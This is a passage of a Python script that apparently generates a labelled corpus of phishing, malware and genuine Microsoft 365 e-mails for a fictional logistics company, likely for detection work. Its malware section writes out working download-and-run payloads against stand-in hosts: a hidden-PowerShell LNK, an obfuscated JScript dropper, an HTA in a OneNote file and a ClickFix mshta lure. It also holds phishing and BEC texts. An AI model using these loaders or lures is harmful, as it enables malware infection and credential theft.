    "Imitation of a SharePoint sharing e-mail (same layout) sent from sharepoint-docsonline.com on a VPS, naming the CFO and a "
    "bonus-structure workbook; the Open button goes to a deceptive corlissharbor-my.sharepoint.com.docs-viewer.online host.",
    frm=("Dana Whitfield via SharePoint", "no-reply@sharepoint-docsonline.com"), to=["aweiss"], date="2024-01-23 14:47:29",
    subject='Dana Whitfield shared "2024 Bonus Structure - Confidential.xlsx" with you',
    via=v_esp("mx2.sharepoint-docsonline.com", "38.180.91.14", "", [], "<{g}@sharepoint-docsonline.com>", ctry="US"),
    body=sp_share("Dana Whitfield", "2024 Bonus Structure - Confidential.xlsx",
                  "https://corlissharbor-my.sharepoint.com.docs-viewer.online/personal/dwhitfield/Documents/2024Bonus.xlsx?web=1&e=YXdlaXNz",
                  "Please review before our meeting on Thursday. Do not forward.", icon="xlsx", b="php"))


def quarantine(items, url_of, b: str = "ms") -> Multi:
    rows = "".join(f'<tr><td style="padding:8px;border-bottom:1px solid #eee;">{esc(s)}</td><td style="padding:8px;border-bottom:1px solid #eee;">'
                   f'{esc(j)}</td><td style="padding:8px;border-bottom:1px solid #eee;">{d}</td><td style="padding:8px;border-bottom:1px solid #eee;">'
                   f'<a href="{url_of(i, "review")}">Review message</a> | <a href="{url_of(i, "release")}">Release</a> | '
                   f'<a href="{url_of(i, "block")}">Block sender</a></td></tr>\n' for i, (s, j, d) in enumerate(items))
    return card("Microsoft 365", "#0078d4", "You have messages in quarantine",
                ["Review these messages to decide whether you want to release them to your inbox or block the sender.",
                 f'<table cellpadding="0" cellspacing="0" style="font-size:12px;width:100%;"><tr><th align="left">Sender</th>'
                 f'<th align="left">Subject</th><th align="left">Date</th><th></th></tr>\n{rows}</table>'],
                ("Review messages in quarantine", url_of(99, "list")),
                "This message was sent from an unmonitored email address. Please do not reply to this message.<br>" + MS_FOOT, b=b)


add("quarantine-digest-fake", "phish", "phishing",
    "Fake Microsoft 365 quarantine digest (Mailjet, messaging-microsoft.info) listing 'held' payment and HR messages whose "
    "Release links go to a look-alike portal asking for the Microsoft password.",
    frm=("Microsoft 365", "quarantine@messaging-microsoft.info"), to=["dpatel"], date="2025-01-07 08:12:30",
    subject="Microsoft 365 security: You have 4 messages in quarantine",
    via=v_esp("o32.p25.mailjet.com", "87.253.233.132", "bnc3.1a2b3c4d.9f8e7d6c@bnc3.mailjet.com",
              [("messaging-microsoft.info", "mailjet"), ("mailjet.com", "mailjet")], "<{g}@mailjet.com>",
              ["X-MJ-Mid: " + b64s("mjmid", 60), "X-CSA-Complaints: csa-complaints@eco.de", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"],
              ctry="FR"),
    body=quarantine([("payroll@adp-notices.com", "Paystub available 01/03/2025", "1/6/2025"),
                     ("docs@corlissharbor.com", "Shared: Q1 Dispatch Schedule.xlsx", "1/6/2025"),
                     ("no-reply@irs-efile.us", "W-2 correction notice", "1/7/2025"),
                     ("hr@corlissharbor.com", "2025 Holiday calendar", "1/7/2025")],
                    lambda i, a: f"https://mail-quarantine-center.com/{a}?id={hx('qd' + str(i), 16)}&u=ZHBhdGVs", b="java"))
add("intune-noncompliant-mamba", "phish", "phishing",
    "Fake Microsoft Intune 'device no longer compliant' notice on a deviceportal-mgmt.com subdomain styled with the company "
    "name; the re-enrol link leads to a Mamba 2FA style relay page.",
    frm=("Microsoft Intune", "intune-noreply@corlissharbor.deviceportal-mgmt.com"), to=["htanabe"], date="2026-02-03 14:33:08",
    subject="Action required: Your device CH-LT-0417 is no longer compliant",
    via=v_esp("a11-92.smtp-out.amazonses.com", "54.240.11.92", "bounce@mail.deviceportal-mgmt.com",
              [("deviceportal-mgmt.com", "ses2025"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")],
              "<0100019ae1c4d5e6-{g}-000000@email.amazonses.com>", ["Feedback-ID: ::1.us-east-1.ses2025dp=:AmazonSES"]),
    body=card("Company Portal", "#0078d4", "Your device is no longer compliant",
              ["Device: <b>CH-LT-0417</b> (Windows 11 Enterprise)<br>Issue: Encryption and security baseline check failed",
               "Access to company resources (Outlook, Teams, SharePoint) from this device will be blocked in <b>24 hours</b> "
               "unless the device is re-registered."],
              ("Re-register device", "https://enroll.deviceportal-mgmt.com/intune/compliance?dev=CH-LT-0417&u=aHRhbmFiZQ"),
              "Corliss Harbor IT &middot; Managed by Microsoft Intune", b="java"))
add("docusign-pdf-link", "phish", "phishing",
    "Compromised title-company Microsoft 365 mailbox sends a 'please review and sign' PDF styled as DocuSign; the PDF's only "
    "link is a TinyURL leading to a Tycoon 2FA page.",
    frm=("Cedar Point Title", "office@cedarpointtitle.com"), to=["dwhitfield"], date="2024-06-11 13:36:17",
    subject="Review & Sign: Corliss Harbor - Lease Amendment Doc#20240611", attach=True,
    via=v_m365("cedarpointtitle.com"),
    body=mixed("ol", outlook(["Hello,", "Please review and sign the attached document at your earliest convenience.", "Thank you,"],
                             "Cedar Point Title Agency\nClosing Department"),
               att("application/pdf", "Lease_Amendment_Doc#20240611.pdf",
                   files.pdf(["DocuSign Envelope ID: 8A4F2C19-73D0-4E1B-9B6A-5C2E0F8D7A31", "", "Corliss Harbor - Lease Amendment",
                              "You have received a document for review and signature.", "Click REVIEW DOCUMENT to access."],
                             ("https://tinyurl.com/3xk9vp2m", (56, 560, 300, 600)), "Lease Amendment"))))
add("advance-fee-vendor-registration", "phish", "phishing",
    "Advance-fee fraud posing as NEOM procurement: an 'invitation to bid' on a logistics hub that requires a vendor "
    "registration fee paid to an 'accredited agent', with a PDF form; sent from a look-alike domain on a VPS.",
    frm=("NEOM Procurement Department", "tenders@neom-projects.org"), to=["rsutter"], date="2024-08-06 07:22:19",
    subject="Invitation to Bid: NEOM Logistics Hub - Heavy Haul & Engineering Services (Ref: NEOM/PRC/2024/0817)",
    attach=True, scl=5, hdrs=["Reply-To: NEOM Vendor Registration <vendor.registration.neom@gmail.com>"],
    via=v_esp("host.neom-projects.org", "146.70.114.35", "tenders@neom-projects.org", [("neom-projects.org", "x")],
              "<{h}@neom-projects.org>", ["X-Mailer: Microsoft Outlook 16.0"], ctry="NL"),
    body=mixed("php", plain("Dear Sir/Madam,\n\nNEOM Company invites qualified firms to submit bids for heavy haul, crane and "
                            "structural engineering services for the NEOM Logistics Hub (Oxagon). Your company has been shortlisted "
                            "from our vendor database.\n\nTo receive the tender documents, bidders must complete vendor registration "
                            "with our accredited agent. A one-time registration and documentation fee of USD 2,950 applies and is "
                            "fully refundable upon contract award.\n\nPlease complete the attached form and return it with proof of "
                            "payment to vendor.registration.neom@gmail.com before 20 August 2024.\n\nYours faithfully,\n"
                            "Eng. Khalid Al-Harbi\nDirector, Procurement & Contracts\nNEOM Company\n"),
               att("application/pdf", "NEOM_Vendor_Registration_Form.pdf",
                   files.pdf(["NEOM COMPANY - VENDOR REGISTRATION FORM", "Ref: NEOM/PRC/2024/0817", "", "Company name: ____________",
                              "Registration fee: USD 2,950 (refundable)", "Accredited agent: Gulf Contracts Registration Services",
                              "Bank: Emirates NBD  IBAN: AE07 0331 2345 6789 0123 456", "Return to: vendor.registration.neom@gmail.com"],
                             title="Vendor Registration"))))
add("w2-request-bec", "phish", "phishing",
    "CEO impersonation from corlissharbor.co (attacker tenant) asking HR for all employees' 2024 W-2 forms as PDFs 'for the "
    "CPA' (tax-data theft); no link.",
    frm=("Marcus Oyelaran", "moyelaran@corlissharbor.co"), to=["jholloway"], date="2025-01-28 15:41:55",
    subject="W-2 request", via=v_m365("corlissharbor.co", onms="corlissharborco1", region="namprd20"),
    body=outlook(["Jenna,", "I need the 2024 W-2 forms for all employees in PDF format for a review with our outside CPA. Please send "
                  "them to me today as one file, I'm on the road and need them before 5.", "Thanks"], "Marcus Oyelaran\nPresident & CEO"))
add("customer-compromised-payment-workers", "phish", "phishing",
    "A customer's real mailbox (food distributor, Microsoft 365, passes all checks) is compromised and sends a 'payment "
    "confirmation' whose link is a workers.dev page fronting a Microsoft login phishing kit.",
    frm=("Teresa Malloy", "tmalloy@norvalefoods.com"), to=["jfitzgerald", "mgonzalez"], date="2025-10-07 17:28:40",
    subject="Payment Confirmation - Invoice CH-30917", via=v_m365("norvalefoods.com"),
    body=outlook(["Hi,", "Please find below payment confirmation for invoice CH-30917. Kindly review and let us know if anything is "
                  "outstanding on your side.",
                  "View payment confirmation:\nhttps://secure-remit.norvale-ap.workers.dev/view?d=Q0gtMzA5MTc&r=amZpdHpnZXJhbGQ",
                  "Best regards,"], "Teresa Malloy\nAccounts Payable Supervisor\nNorvale Foods, Inc."))
add("msforms-salary-survey", "phish", "phishing",
    "Compromised community-college Microsoft 365 mailbox with a 'Human Resources' display name invites staff to a "
    "compensation review on a genuine Microsoft Forms form that asks for the user's email password.",
    frm=("Human Resources", "j.carver@wcc-ohio.edu"), to=["ktran"], date="2025-04-22 12:17:46",
    subject="2025 Compensation Review - confirm your details by 04/25", via=v_m365("wcc-ohio.edu", region="namprd02"),
    body=outlook(["Dear Staff,", "As part of the 2025 compensation review, all employees are required to confirm their employment "
                  "details so salary adjustments can be applied in the next payroll.",
                  "Complete the confirmation form here: https://forms.office.com/r/Xk29QvLm7p",
                  "Forms not completed by April 25 will be excluded from this cycle."], "Human Resources Department"))
add("teams-external-chat-abuse", "phish", "phishing",
    "Genuine Microsoft Teams e-mail notification (email.teams.microsoft.com, passes) of a chat from an external attacker "
    "tenant named 'IT Help Desk', posing as internal IT after mail-bombing and asking the user to accept a remote-support call.",
    frm=("Microsoft Teams", "noreply@email.teams.microsoft.com"), to=["nbrooks"], date="2025-11-18 15:52:09",
    subject="IT Help Desk (External) sent you a message",
    via=v_esp("NAM12-MW2-obe.outbound.protection.outlook.com", "40.107.201.44", "noreply@email.teams.microsoft.com",
              [("email.teams.microsoft.com", "selector1")], "<{g}@teams.microsoft.com>", ["X-MS-Teams-Notification-Type: ChatMessage"]),
    body=card("Microsoft Teams", "#5b5fc7", "IT Help Desk (External) sent you a message",
              ['<b>IT Help Desk</b> <span style="color:#616161;">helpdesk@corlissharborsupport.onmicrosoft.com</span>',
               '"Hi Nicole, this is Corliss Harbor IT. We see a spam attack hitting your mailbox right now (hundreds of messages). '
               'Please accept this chat and join a quick call so we can install the spam filter update on your PC."'],
              ("Reply in Teams", "https://teams.microsoft.com/l/chat/19:8b2e4c7a1d9f4e3b9a6c5d8e0f1a2b3c_8f7e6d5c@unq.gbl.spaces/conversations?context=%7B%22contextType%22%3A%22chat%22%7D"),
              "You are receiving this because you have unread messages from people outside your organization.<br>" + MS_FOOT))


# ---- malware: disc images, shortcuts, scripts, OneNote, ClickFix


def onenote(embedded: bytes) -> bytes:
    """A OneNote section: file header GUIDs, then a FileDataStoreObject holding the embedded file (as droppers used them)."""
    head = (uuid.UUID("7B5C52E4-D88C-4DA7-AEB1-5378D02996D3").bytes_le + uuid.UUID(guid("one-file")).bytes_le
            + bytes(16) + uuid.UUID("109ADD3F-911B-49F5-A5D0-1791EDC8AED8").bytes_le)
    head = head.ljust(1024, b"\x00")
    store = (uuid.UUID("BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC").bytes_le + len(embedded).to_bytes(8, "little") + bytes(12)
             + embedded + bytes(-len(embedded) % 8) + uuid.UUID("71FBA722-0F79-4A0B-BB13-899256426B24").bytes_le)
    return head + store


PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
lnk_iso = files.lnk_shortcut(r"C:\Windows\System32\rundll32.exe", "data.dll,DllRegisterServer")
add("iso-po-dropper", "phish", "malware",
    "Urgent purchase order from a look-alike manufacturer domain with an ISO disc image holding a shortcut that runs "
    "rundll32 on a hidden DLL (classic ISO/LNK/DLL loader chain that bypasses Mark-of-the-Web).",
    frm=("Lakeshore Manufacturing Purchasing", "purchasing@lakeshore-mfg.com"), to=["rsutter"], date="2024-03-26 10:14:27",
    subject="Purchase Order PO-24-0873 - Urgent Confirmation Needed", attach=True,
    via=v_esp("mail.lakeshore-mfg.com", "91.92.248.19", "", [("lakeshore-mfg.com", "dkim")], "<{h}@lakeshore-mfg.com>",
              ["X-Mailer: Microsoft Outlook 16.0"], ctry="BG"),
    body=mixed("php", outlook(["Good morning,", "Please find attached our purchase order PO-24-0873 for crane rental and rigging "
                               "services at our Sandusky facility. Kindly confirm pricing and availability by end of day.",
                               "The PO is in the attached file, open with Windows Explorer."], "Regards,\nPurchasing Dept.\nLakeshore Manufacturing",
                              b="php"),
               att("application/octet-stream", "PO-24-0873.iso",
                   files.iso_image([("PO-24-0873.lnk", lnk_iso), ("data.dll", files.pe_stub())], "PO_24_0873"))))
add("img-invoice-dropper", "phish", "malware",
    "Direct spoof of a real vendor whose domain has only a DMARC p=none policy (SPF softfail, no DKIM, compauth=fail, "
    "delivered to Junk) with an overdue-invoice lure and an .img disc image containing an executable posing as the invoice.",
    frm=("Midwest Tire & Fleet Service", "ar@midwesttirefleet.com"), to=["jfitzgerald"], date="2024-11-05 15:02:31",
    subject="Invoice 21877 - Payment Overdue", attach=True, spf="softfail", scl=5, fcat="SPOOF",
    via=v_esp("vps-62514.fastvps-server.com", "194.26.192.71", "", [], "<{h}@midwesttirefleet.com>", ctry="SC"),
    body=mixed("py", plain("Hello,\n\nOur records show invoice 21877 (USD 12,947.30) for fleet tire service is overdue. Please "
                           "review the attached invoice copy and arrange payment to avoid account hold.\n\nAccounts Receivable\n"
                           "Midwest Tire & Fleet Service\n"),
               att("application/octet-stream", "Invoice_21877.img",
                   files.iso_image([("Invoice_21877.exe", files.pe_stub())], "INV21877"))))

lnk_bl = files.lnk_shortcut(PS, "-w hidden -nop -ep bypass -c \"$u='https://maeu-docs.b-cdn.net/bl/2451873.ps1';iex(iwr $u -UseBasicParsing)\"")
add("lnk-zip-bol", "phish", "malware",
    "Bill-of-lading notice imitating Maersk from a look-alike domain with a ZIP containing a '.pdf.lnk' shortcut that starts "
    "hidden PowerShell downloading and executing a script from a CDN.",
    frm=("Maersk Documentation", "documentation@maersk-bl.com"), to=["gmahoney"], date="2025-05-06 08:41:19",
    subject="Shipping Documents / B/L MAEU2451873 - Arrival Notice", attach=True,
    via=v_esp("vmi1920384.contaboserver.net", "178.18.247.62", "documentation@maersk-bl.com", [("maersk-bl.com", "default")],
              "<{h}@maersk-bl.com>", ["X-Mailer: PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)"], ctry="DE"),
    body=mixed("php", card("MAERSK", "#42b0d5", "Arrival Notice - B/L MAEU2451873",
                           ["Dear Customer,", "Please find attached the original Bill of Lading, commercial invoice and arrival "
                            "notice for container MSKU 7723104 arriving Port of Toledo on 05/09/2025.",
                            "Kindly review the documents and confirm consignee details to avoid demurrage charges."],
                           None, "A.P. Moller - Maersk &middot; Customer Service", b="php", font="Maersk Text,Arial,sans-serif"),
               att("application/zip", "BL_MAEU2451873.zip", files.zip_archive([("BL_MAEU2451873.pdf.lnk", lnk_bl)]))))

JS_DROPPER = ("// remittance viewer\nvar _a=['WScript.Shell','Scripting.FileSystemObject','powershell -w h -nop -c '];\n"
              "var _u=['htt','ps://blue','line-ship','docs.com/r','/0709.dat'].join('');\n"
              "var s=new ActiveXObject(_a[0]);\nvar c=_a[2]+'\"$p=$env:TEMP+\\'\\\\rm.dll\\';iwr '+_u+' -o $p;rundll32 $p,Start\"';\n"
              "try{s.Run(c,0,false);}catch(e){}\n")
add("js-zip-remittance", "phish", "malware",
    "Reply-chain hijack from a compromised carrier mailbox: a short reply in a real fuel-surcharge thread with a ZIP holding a "
    "JScript file that has Windows Script Host launch PowerShell to fetch and run a DLL.",
    frm=("Kiran Patel", "kpatel@bluelinecarriers.com"), to=["praman"], date="2024-07-09 16:55:03",
    subject="RE: Fuel surcharge invoices Q2", attach=True, replies=2,
    hdrs=["In-Reply-To: <PH0PR12MB5140B3E1A9C27D4F6E8A0C2B5D913@PH0PR12MB5140.namprd12.prod.outlook.com>",
          "References: <DM6PR13MB4410A2C4E6F8091B3D5F7A9C1E2B4@DM6PR13MB4410.namprd13.prod.outlook.com>\n"
          " <PH0PR12MB5140B3E1A9C27D4F6E8A0C2B5D913@PH0PR12MB5140.namprd12.prod.outlook.com>"],
    via=v_m365("bluelinecarriers.com", region="namprd13"),
    body=mixed("ol", outlook(["Hi Priya,", "Please see the attached remittance for the Q2 surcharge invoices. Password is not needed.",
                              "Thanks"], "Kiran Patel\nBilling | Blue Line Carriers",
                             [dict(frm="Priya Raman <praman@corlissharbor.com>", sent="Monday, July 8, 2024 2:12 PM",
                                   to="Kiran Patel <kpatel@bluelinecarriers.com>", subject="RE: Fuel surcharge invoices Q2",
                                   paras=["Hi Kiran,", "We show BLC-4471 and BLC-4490 still open, can you send the backup for the "
                                          "surcharge calculation?", "Thanks,\nPriya"])]),
               att("application/zip", "Remittance_0709.zip", files.zip_archive([("Remittance_0709.js", JS_DROPPER.encode())]))))

HTA = (b'<html><head><HTA:APPLICATION ID="q" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>\n<script language="VBScript">\n'
       b'Set s = CreateObject("WScript.Shell")\ns.Run "powershell -w hidden -c ""iwr https://summit-rfq.top/a.bin -o $env:TEMP\\u.exe; '
       b'start $env:TEMP\\u.exe""", 0\nself.close\n</script></head></html>\n')
add("onenote-quote", "phish", "malware",
    "Request-for-quotation from a Gmail account with a OneNote (.one) attachment embedding an HTA script behind a fake "
    "'double-click to view' button, which runs PowerShell to download an executable.",
    frm=("Summit Industrial Supply", "summitindustrialsupply.procure@gmail.com"), to=["rsutter"], date="2024-02-20 14:36:44",
    subject="Request for Quotation - RFQ 2402-117", attach=True, via=v_gmail(),
    body=mixed("gm", gmail(["Hello,", "We are requesting a quotation for the items and services listed in the attached RFQ. Kindly "
                            "review and send your best offer by Friday.", "Best Regards,\nMark Dillon\nProcurement | Summit Industrial Supply"]),
               att("application/octet-stream", "RFQ_2402-117.one", onenote(HTA))))

CLICKFIX = ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Just a moment...</title>\n<style>body{font-family:system-ui,"
            "-apple-system,Segoe UI,Roboto;background:#fff;color:#313131;margin:80px}.box{border:1px solid #e0e0e0;padding:24px;width:"
            "420px}.s{display:none;background:#f6f6f6;padding:14px;margin-top:14px}</style></head>\n<body>\n"
            "<h1>claims-portal.roadwaycargo-claims.com</h1><p>Verify you are human by completing the action below.</p>\n"
            "<div class=\"box\"><label><input type=\"checkbox\" onclick=\"v()\"> I'm not a robot</label>\n"
            "<div class=\"s\" id=\"s\"><b>Verification steps</b><ol><li>Press <b>Windows Button + R</b></li><li>Press <b>CTRL + V</b></li>"
            "<li>Press <b>Enter</b></li></ol><p>Ray ID: 8f3a21c94be0d1a7</p></div></div>\n<script>\n"
            "function v(){var c='mshta https://cdn-verify.roadwaycargo-claims.com/captcha.hta # \\u2705 I am not a robot - reCAPTCHA ID 2217';\n"
            "navigator.clipboard.writeText(c);document.getElementById('s').style.display='block';}\n"
            "</script>\n<p style=\"font-size:12px;color:#888\">Performance &amp; security by Cloudflare</p></body></html>\n")
add("clickfix-html-attachment", "phish", "malware",
    "Freight-claim notice with an HTML attachment showing a fake Cloudflare 'verify you are human' box that copies an mshta "
    "command to the clipboard and instructs Win+R, Ctrl+V, Enter (ClickFix).",
    frm=("Roadway Cargo Claims", "claims@roadwaycargo-claims.com"), to=["tkaczmarek"], date="2025-03-25 13:11:52",
    subject="Freight Claim FC-20331 - Documentation Required", attach=True,
    via=v_esp("mail.roadwaycargo-claims.com", "185.196.9.141", "", [("roadwaycargo-claims.com", "s1")],
              "<{h}@roadwaycargo-claims.com>", ctry="CH"),
    body=mixed("php", plain("Hello,\n\nA freight claim (FC-20331) was filed against your company for damaged goods on shipment "
                            "PRO 4471-2093. Please open the attached claim documentation portal and upload your delivery receipts "
                            "within 48 hours to avoid automatic acceptance of liability.\n\nClaims Department\nRoadway Cargo\n"),
               att("text/html", "Claim_Docs_FC-20331.html", CLICKFIX.encode())))
add("clickfix-freight-claim-link", "phish", "malware",
    "FedEx Freight 'shipment on hold' look-alike whose link opens a ClickFix page that has the user paste a PowerShell "
    "command into the Run dialog to 'verify' before the delivery address can be confirmed.",
    frm=("FedEx Freight", "no-reply@fedexfreight-notify.com"), to=["ktran"], date="2025-09-30 12:48:05",
    subject="Shipment on hold: action required - PRO 7719-4402-13",
    via=v_esp("mta2.fedexfreight-notify.com", "45.138.16.212", "", [("fedexfreight-notify.com", "mta")],
              "<{h}@fedexfreight-notify.com>", ctry="RO"),
    body=card("FedEx Freight", "#4d148c", "Your shipment is on hold",
              ["PRO number: <b>7719-4402-13</b><br>Consignee: Corliss Harbor Logistics &amp; Engineering - Toledo DC",
               "We could not complete delivery because the dock appointment could not be confirmed. Verify the delivery details "
               "within 48 hours or the shipment will be returned to the shipper."],
              ("Verify delivery", "https://fedexfreight-delivery-hold.com/verify?pro=7719440213&ref=a3RyYW4"),
              "&copy; FedEx 1995-2025. This is an automatically generated message.", b="java"))
add("dmca-zip-link", "phish", "malware",
    "Copyright-infringement (DMCA) complaint from a Gmail 'photographer' to marketing; the 'evidence' link is a Firebase "
    "Storage ZIP download (malware loader), with threats of legal action.",
    frm=("Karla Jensen Photography", "karla.jensen.photo.legal@gmail.com"), to=["nbrooks"], date="2025-07-08 18:22:10",
    subject="Copyright Infringement Notice - Unauthorized use of my images on corlissharbor.com", via=v_gmail(),
    body=gmail(["Hello,", "My name is Karla Jensen and I am a professional photographer. I found that several of my copyrighted images "
                "are being used on your website corlissharbor.com without a license or permission. This is a violation of the "
                "Digital Millennium Copyright Act (DMCA).",
                "I have compiled the list of images and the evidence of my ownership here:\nhttps://firebasestorage.googleapis.com/v0/b/"
                "evidence-files-2025.appspot.com/o/Copyright_Evidence_Images.zip?alt=media&token=3f2c1b0a-9e8d-4c7b-a6f5-e4d3c2b1a098",
                "If the images are not removed within 5 business days I will file a complaint with your hosting provider and pursue "
                "legal action for damages.", "Regards,\nKarla Jensen"]))


# ---- legitimate: Microsoft 365 and SaaS notifications
MS_OUT = dict(helo="NAM10-BN7-obe.outbound.protection.outlook.com")
add("ms-security-info-added", "bulk", "bulk",
    "Genuine Microsoft Entra notification (microsoft.com, passes DMARC) that Microsoft Authenticator was added as security info "
    "to the user's work account, linking to mysignins.microsoft.com.",
    frm=("Microsoft on behalf of Corliss Harbor Logistics & Engineering", "MSSecurity-noreply@microsoft.com"), to=["gmahoney"],
    date="2024-10-09 13:02:11", subject="Corliss Harbor Logistics & Engineering account security info was added",
    via=v_esp(MS_OUT["helo"], "40.107.243.51", "MSSecurity-noreply@microsoft.com", [("microsoft.com", "s1024-meo")],
              "<{g}@az.westus2.microsoft.com>", ["X-MS-Exchange-Organization-Notification: SecurityInfo"]),
    body=card("Microsoft", "#2f2f2f", "Corliss Harbor Logistics &amp; Engineering account security info was added",
              ["The following security info was recently added to the account gm*****@corlissharbor.com:",
               "<b>Microsoft Authenticator</b> &mdash; iPhone 15",
               "If you added this security info, no further action is required.",
               "If you didn't add this security info, your account may be compromised. Go to "
               '<a href="https://mysignins.microsoft.com/security-info">https://mysignins.microsoft.com/security-info</a> to review '
               "your security info, and contact your administrator."],
              None, MS_FOOT, b="ms"))
add("sspr-password-reset", "bulk", "bulk",
    "Genuine self-service password reset confirmation from Microsoft on behalf of the company tenant "
    "(microsoftonline.com, passes), telling the user to contact the administrator if they did not reset it.",
    frm=("Microsoft on behalf of Corliss Harbor Logistics & Engineering", "msonlineservicesteam@microsoftonline.com"),
    to=["dpatel"], date="2025-05-12 12:47:39", subject="Corliss Harbor Logistics & Engineering account password reset",
    via=v_esp("NAM11-DM6-obe.outbound.protection.outlook.com", "40.107.220.83", "msonlineservicesteam@microsoftonline.com",
              [("microsoftonline.com", "selector2")], "<{g}@az.eastus.production.microsoftonline.com>"),
    body=card("Microsoft", "#2f2f2f", "Corliss Harbor Logistics &amp; Engineering account password reset",
              ["Your password for your Corliss Harbor Logistics &amp; Engineering account dpatel@corlissharbor.com was recently reset.",
               "If you didn't reset your password, contact your administrator immediately. You can also review recent activity at "
               '<a href="https://mysignins.microsoft.com/">https://mysignins.microsoft.com/</a>.'],
              None, MS_FOOT, b="ms"))
add("sharepoint-share-colleague", "bulk", "bulk",
    "Genuine SharePoint notification of a colleague sharing a project schedule from the company's own SharePoint site "
    "(direct-recipient link on corlissharbor.sharepoint.com).",
    frm=("Anna Weiss", "no-reply@sharepointonline.com"), to=["edunleavy"], date="2025-06-03 14:22:05",
    subject='Anna Weiss shared "Riverside DC - Steel Erection Schedule Rev B.xlsx" with you',
    hdrs=["Reply-To: Anna Weiss <aweiss@corlissharbor.com>"], via=sp_via("40.107.236.41"),
    body=sp_share("Anna Weiss", "Riverside DC - Steel Erection Schedule Rev B.xlsx",
                  "https://corlissharbor.sharepoint.com/:x:/s/RiversideDC/EQk2v8RmTn5Lq0wXc3YbZ1sBv4n6T8yU2pK9rD1fG3hJ5w?e=Xy7pQd",
                  "Eric - updated per the GC's 3-week lookahead. Can you check the crane picks for week 3?", icon="xlsx"))
add("sharepoint-share-partner", "bulk", "bulk",
    "Genuine SharePoint folder share from a structural-engineering partner's tenant with the issued-for-construction drawings "
    "the project engineer expected.",
    frm=("Rob Halden", "no-reply@sharepointonline.com"), to=["lortega"], date="2024-08-20 18:05:44",
    subject='Rob Halden shared the folder "Riverside DC - IFC Drawings" with you',
    hdrs=["Reply-To: Rob Halden <rhalden@haldenstructural.com>"], via=sp_via("40.107.244.120"),
    body=sp_share("Rob Halden", "Riverside DC - IFC Drawings",
                  "https://haldenstructural.sharepoint.com/:f:/s/Projects/EnB7xQ2kLm4Rt9Yv1Wc6Zp0BqT3nK8sD5fH2jG7uM4rA?e=bN3kLp",
                  "Luis, IFC set for the mezzanine and canopy steel. Let me know if you have trouble accessing.", icon="folder"))
add("teams-missed-activity", "bulk", "bulk",
    "Genuine Microsoft Teams missed-activity e-mail (email.teams.microsoft.com, passes) for unread messages from a colleague "
    "in an internal dispatch chat.",
    frm=("Microsoft Teams", "noreply@email.teams.microsoft.com"), to=["gmahoney"], date="2025-02-18 21:37:02",
    subject="You have 2 unread messages in Teams",
    via=v_esp("NAM12-MW2-obe.outbound.protection.outlook.com", "40.107.201.62", "noreply@email.teams.microsoft.com",
              [("email.teams.microsoft.com", "selector1")], "<{g}@teams.microsoft.com>", ["X-MS-Teams-Notification-Type: MissedActivity"]),
    body=card("Microsoft Teams", "#5b5fc7", "You have 2 unread messages",
              ["<b>Tom Kaczmarek</b> in <b>Dispatch - Toledo DC</b>:",
               '"Unit 214 is back from Midwest Tire, can you release it for the 5am Nashville run?"<br>"Also need the DVIR signed."'],
              ("Open Teams", "https://teams.microsoft.com/l/message/19:d4b1c2e3f4a5467889@thread.v2/1739914620114?tenantId=" + TENANT),
              "You're receiving this email because you have unread activity in Microsoft Teams.<br>" + MS_FOOT))
add("quarantine-digest-genuine", "bulk", "bulk",
    "Genuine Microsoft 365 quarantine notification (quarantine@messaging.microsoft.com, passes) listing held spam with "
    "review/release links to security.microsoft.com.",
    frm=("Microsoft 365", "quarantine@messaging.microsoft.com"), to=["jfitzgerald"], date="2024-12-09 08:00:41",
    subject="Microsoft 365 security: You have messages in quarantine",
    via=v_esp("NAM04-BN8-obe.outbound.protection.outlook.com", "40.107.212.58", "quarantine@messaging.microsoft.com",
              [("messaging.microsoft.com", "selector1")], "<{g}@messaging.microsoft.com>"),
    body=quarantine([("info@promo-freightdeals.com", "Last chance: 40% off load board subscription", "12/8/2024"),
                     ("newsletter@cheapcrane-parts.net", "Crane parts clearance", "12/8/2024")],
                    lambda i, a: (f"https://security.microsoft.com/quarantine?id={guid('qg' + str(i))}&actionType={a}"
                                  if i != 99 else "https://security.microsoft.com/quarantine?viewid=Email")))
add("docusign-customer-envelope", "bulk", "bulk",
    "Genuine DocuSign envelope (docusign.net, passes) from a food-distribution customer's contracts manager for an MSA "
    "amendment, with the sender's address as Reply-To.",
    frm=("Brian Keller via Docusign", "dse_NA3@docusign.net"), to=["dwhitfield"], date="2024-04-16 15:11:28",
    subject="Please DocuSign: Norvale_CorlissHarbor_MSA_Amendment_3.pdf", hdrs=["Reply-To: Brian Keller <bkeller@norvalefoods.com>"],
    via=v_esp("mailna3.docusign.net", "64.207.219.75", "dse_NA3@docusign.net", [("docusign.net", "mail-na3")], "<{h}@docusign.net>"),
    body=docusign("Brian Keller", "Norvale_CorlissHarbor_MSA_Amendment_3.pdf",
                  "https://na3.docusign.net/Signing/EmailStart.aspx?a=4e7f2a1b-8c3d-4f5e-9a6b-0c1d2e3f4a5b&etti=24&acct=b1c2d3e4-f5a6-4b7c-8d9e-0f1a2b3c4d5e&er=1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d",
                  "Dana,\nAttached is Amendment 3 extending the dedicated fleet schedule through 2026 with the revised fuel "
                  "surcharge table we discussed. Please sign at your convenience.\nThanks, Brian", "norvale-msa"))
add("adp-w2-available", "bulk", "bulk",
    "Genuine ADP notice (adp.com, passes) that the 2025 W-2 is available in the ADP portal, with standard ADP links.",
    frm=("ADP", "SecurityServices_NoReply@email.adp.com"), to=["klindqvist"], date="2026-01-23 11:15:03",
    subject="Your 2025 W-2 is now available",
    via=v_esp("mail5.email.adp.com", "170.146.213.25", "bounce-1029_HTML-52188432-4471-7001249-12@bounce.email.adp.com",
              [("email.adp.com", "200608")], "<{g}@xtnvmta202.xt.local>", ["X-SFMC-Stack: 7",
                                                                        "List-Unsubscribe: <mailto:leave-fd8a1c7476300e3f1b-fe9d1571766402797715-fec316737c640d7e@leave.email.adp.com>"]),
    body=card("ADP", "#d0271d", "Your 2025 W-2 is now available",
              ["Hello Karen,", "Your 2025 Form W-2 from Corliss Harbor Logistics &amp; Engineering is now available. You can view and "
               "download it by logging in to MyADP.", "For your security, this email does not contain any personal information and ADP "
